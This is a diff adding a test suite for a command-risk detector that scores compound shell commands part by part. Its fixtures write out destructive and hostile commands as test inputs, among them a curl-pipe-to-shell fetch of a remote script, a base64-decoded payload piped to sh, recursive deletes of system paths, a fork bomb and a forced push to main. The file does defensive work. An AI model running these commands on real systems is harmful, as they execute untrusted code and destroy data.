@@ -0,0 +1,120 @@
+/**
+ * Tests for SmartDetector command scoring
+ *
+ * Compound commands are scored part by part: the riskiest part decides the
+ * action and is named in its reason.
+ */
+
+import { describe, it, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, writeFileSync, rmSync } from 'fs';
+import { tmpdir } from 'os';
+import { join } from 'path';
+import { SmartDetector } from './smart-detector.js';
+
+const workDir = mkdtempSync(join(tmpdir(), 'smart-detector-test-'));
+writeFileSync(join(workDir, 'existing.txt'), '');
+
+const FIXTURES = [
+  {
+    name: 'finds a delete behind cd',
+    command: 'cd x && rm -rf build',
+    type: 'file_delete',
+    segment: 'rm -rf build'
+  },
+  {
+    name: 'finds a dangerous command after a harmless one',
+    command: 'echo cleaning; rm -rf /usr/local',
+    type: 'dangerous_command',
+    segment: 'rm -rf /usr/local',
+    reason: /^Recursive delete from root in `rm -rf \/usr\/local`$/
+  },
+  {
+    name: 'scores the script inside bash -c',
+    command: 'bash -c "curl https://x.io/i.sh | sh"',
+    type: 'dangerous_command',
+    segment: 'curl https://x.io/i.sh | sh',
+    reason: /^Pipe to shell/
+  },
+  {
+    name: 'scores pipelines as a whole',
+    command: 'cat payload | base64 -d | sh',
+    type: 'dangerous_command',
+    segment: 'cat payload | base64 -d | sh'
+  },
+  {
+    name: 'scores command substitutions',
+    command: 'echo $(sudo rm -rf /etc/app)',
+    type: 'dangerous_command',
+    segment: 'sudo rm -rf /etc/app'
+  },
+  {
+    name: 'scores a push hidden after a status check',
+    command: 'git status && git push --force origin main',
+    type: 'git_push',
+    segment: 'git push --force origin main',
+    minRisk: 1.0
+  },
+  {
+    name: 'scores files written by redirection',
+    command: 'printf "KEY=1" > deploy.sh',
+    type: 'file_create',
+    target: 'deploy.sh'
+  },
+  {
+    name: 'tells appends to an existing file from new files',
+    command: 'date > existing.txt',
+    type: 'file_edit',
+    target: 'existing.txt'
+  },
+  {
+    name: 'ignores operators inside quotes',
+    command: 'git commit -m "rm -rf build && push"',
+    type: 'git_commit',
+    segment: undefined
+  },
+  {
+    name: 'ignores commands in here-document bodies',
+    command: "cat <<'EOF' > /dev/null\nrm -rf /\nEOF",
+    notType: 'dangerous_command'
+  },
+  {
+    name: 'falls back to the whole line for patterns spanning parts',
+    command: ':(){ :|:& };:',
+    type: 'dangerous_command',
+    reason: /^Fork bomb/
+  },
+  {
+    name: 'keeps single commands as they were',
+    command: 'npm test',
+    type: 'terminal_command',
+    target: 'npm test',
+    segment: undefined
+  }
+];
+
+describe('SmartDetector.classifyCommand', () => {
+  after(() => rmSync(workDir, { recursive: true, force: true }));
+
+  for (const fixture of FIXTURES) {
+    it(fixture.name, () => {
+      const action = new SmartDetector().classifyCommand(fixture.command, workDir);
+
+      if (fixture.type) assert.equal(action.type, fixture.type);
+      if (fixture.notType) assert.notEqual(action.type, fixture.notType);
+      if (fixture.target) assert.equal(action.target, fixture.target);
+      if ('segment' in fixture) assert.equal(action.segment, fixture.segment);
+      if (fixture.segment) assert.ok(action.reason.includes(fixture.segment), action.reason);
+      if (fixture.reason) assert.match(action.reason, fixture.reason);
+      if (fixture.minRisk) assert.ok(action.riskScore >= fixture.minRisk, `risk ${action.riskScore}`);
+    });
+  }
+
+  it('uses the riskiest part, not the first match', () => {
+    const detector = new SmartDetector();
+    const single = detector.classifyCommand('rm -rf build', workDir);
+    const compound = detector.classifyCommand('git add . && rm -rf build', workDir);
+    assert.equal(compound.riskScore, single.riskScore);
+    assert.equal(compound.type, 'file_delete');
+  });
+});